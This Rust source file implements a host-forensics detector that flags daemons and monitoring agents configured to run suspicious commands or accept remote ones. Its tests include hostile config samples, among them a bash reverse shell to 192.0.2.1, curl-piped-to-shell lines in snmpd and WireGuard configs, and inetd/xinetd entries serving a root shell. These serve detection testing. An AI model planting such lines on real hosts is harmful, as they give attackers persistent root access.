//! Detector: an agent or daemon runs something odd for whoever writes, asks or connects to it.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, kinds::StartupCommand, kinds::SystemSetting};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "agent-command",
        doc: "A logger, monitoring agent, super-server or daemon with hooks runs something odd, or lets others send it commands.",
        mechanisms: &[57],
        attack: &["T1546", "T1072"],
        why: "It runs as root by itself, and often whoever can write to a log or ask over the network decides when.",
        innocent: "you or your monitoring's setup made it",
        next: "read the setting and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>() {
        let Some(agent) = row.mechanism.strip_prefix("agent: ") else { continue };
        let whole = row.line == 0;
        let mut weight = if whole {
            weigh::file(&files, &row.path, row.as_root)
        } else {
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row))
        };
        let shell = row.command.as_bytes().split(|b| *b == b' ').next().unwrap_or_default();
        let shell = shell.rsplit(|b| *b == b'/').next().unwrap_or_default();
        if matches!(agent, "inetd" | "xinetd")
            && matches!(shell, b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"busybox")
        {
            weight = weight.and(Weight::of(Severity::High, "whoever connects gets a shell"));
        }
        // A monitoring server that may send any command is one whose word is a root shell.
        if row.command.as_bytes().trim_ascii() == b"$ARG1$" || row.command.as_bytes().starts_with(b"$ARG1$ ")
        {
            weight = weight.and(Weight::of(Severity::Medium, "whoever asks says what is run"));
        }
        if row.package.is_some() && !whole && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = format!("{} runs something odd {}", capital(agent), row.when);
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
    for row in tables.of::<SystemSetting>().filter(|row| row.area == "agent setting") {
        let on = matches!(row.value.as_bytes(), b"1" | b"yes" | b"true");
        let weight = match row.name.as_str().unwrap_or_default() {
            "AllowKey"
                if row.value.as_bytes().starts_with(b"system.run")
                    && row.value.as_bytes().contains(&b'*') =>
            {
                Weight::of(Severity::Medium, "the monitoring server may run any command here")
            }
            "EnableRemoteCommands" if on => {
                Weight::of(Severity::Medium, "the monitoring server may run any command here")
            }
            "dont_blame_nrpe" if on => {
                Weight::of(Severity::Low, "whoever asks may put arguments into the commands")
            }
            "AllowRoot" if on => Weight::of(Severity::Info, "the agent runs as root"),
            "logcollector.remote_commands" | "wazuh_command.remote_commands" if on => {
                Weight::of(Severity::Low, "the monitoring server may run any command here")
            }
            _ => continue,
        };
        let identity = [row.path.as_bytes(), b"\0", row.name.as_bytes()].concat();
        let title = "A monitoring agent takes commands from elsewhere".to_owned();
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.value, &row));
    }
}

fn capital(text: &str) -> String {
    let mut letters = text.chars();
    let first = letters.next().map(|c| c.to_uppercase().to_string()).unwrap_or_default();
    first + letters.as_str()
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    #[test]
    fn odd_commands_of_every_agent_are_found() {
        for (path, text) in [
            (
                "/etc/rsyslog.d/10-x.conf",
                "module(load=\"omprog\")\naction(type=\"omprog\" binary=\"/var/tmp/.l\")\n",
            ),
            ("/etc/rsyslog.conf", "auth.* ^/dev/shm/x;t\n"),
            (
                "/etc/syslog-ng/conf.d/a.conf",
                "destination d { program(\"/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\"); };\n",
            ),
            ("/etc/audit/plugins.d/z.conf", "active = yes\ndirection = out\npath = /tmp/p\ntype = always\n"),
            ("/etc/zabbix/zabbix_agentd.d/u.conf", "UserParameter=sys.x[*],/dev/shm/u $1\n"),
            ("/etc/zabbix/zabbix_agentd.conf", "AllowKey=system.run[*]\n"),
            (
                "/etc/snmp/snmpd.conf",
                "rocommunity public\nextend health /bin/sh -c \"curl -s http://192.0.2.1/a | sh\"\n",
            ),
            ("/etc/nagios/nrpe.d/x.cfg", "command[check_y]=/tmp/.y -w 1\n"),
            (
                "/etc/telegraf/telegraf.d/x.conf",
                "[[inputs.exec]]\n  commands = [\n    \"/var/tmp/t\",\n  ]\n",
            ),
            (
                "/etc/collectd/collectd.conf.d/x.conf",
                "<Plugin exec>\n  Exec \"nobody\" \"/dev/shm/c\"\n</Plugin>\n",
            ),
            ("/etc/monit/conf.d/x", "check program h with path \"/tmp/h\"\n  if status != 0 then alert\n"),
            (
                "/etc/fail2ban/action.d/iptables.local",
                "[Definition]\nactionban = iptables -I f <ip>\n            nohup /tmp/b &\n",
            ),
            ("/etc/inetd.conf", "7777 stream tcp nowait root /bin/bash bash -i\n"),
            (
                "/etc/xinetd.d/z",
                "service z\n{\n user = root\n server = /usr/bin/bash\n server_args = -i\n disable = no\n}\n",
            ),
            ("/etc/wireguard/wg0.conf", "[Interface]\nPostUp = curl -s http://192.0.2.1/a | bash\n"),
            ("/etc/samba/smb.conf", "[x]\n root preexec = /dev/shm/s\n"),
        ] {
            let seen = check(Mem::new().file(path, text));
            let found = seen.alarms("agent-command");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
        let plugin = check(Mem::new().file("/etc/munin/plugins/x", "#!/bin/sh\n/tmp/x\n").owned(
            "/etc/munin/plugins/x",
            0o755,
            0,
            0,
        ));
        assert_eq!(plugin.alarms("agent-command").len(), 1, "{:#?}", plugin.findings);
    }

    #[test]
    fn what_administrators_set_up_is_quiet() {
        let seen = check(
            Mem::new()
                .file("/etc/rsyslog.d/30-a.conf", "auth.* |/run/pipe\n:msg, contains, \"x\" ~\naction(type=\"omprog\" binary=\"/usr/local/bin/ship --json\")\n")
                .file("/usr/local/bin/ship", "#!/bin/sh\nlogger -n logs.example.org\n")
                .file("/etc/zabbix/zabbix_agentd.d/my.conf", "UserParameter=mysql.ping,mysqladmin ping | grep -c alive\nDenyKey=system.run[*]\n")
                .file("/etc/snmp/snmpd.conf", "extend distro /usr/bin/distro\n")
                .file("/etc/nagios/nrpe.cfg", "command[check_load]=/usr/lib/nagios/plugins/check_load -r -w .15 -c .30\ndont_blame_nrpe=0\n")
                .file("/etc/fail2ban/action.d/mail.conf", "[Definition]\nactionban = printf %%b \"Subject: banned <ip>\" | /usr/sbin/sendmail -f <sender> <dest>\n")
                .file("/etc/wireguard/wg0.conf", "[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n")
                .file("/etc/samba/smb.conf", "[global]\n panic action = /usr/share/samba/panic-action %d\n"),
        );
        assert!(seen.by("agent-command").is_empty(), "{:#?}", seen.by("agent-command"));
    }
}
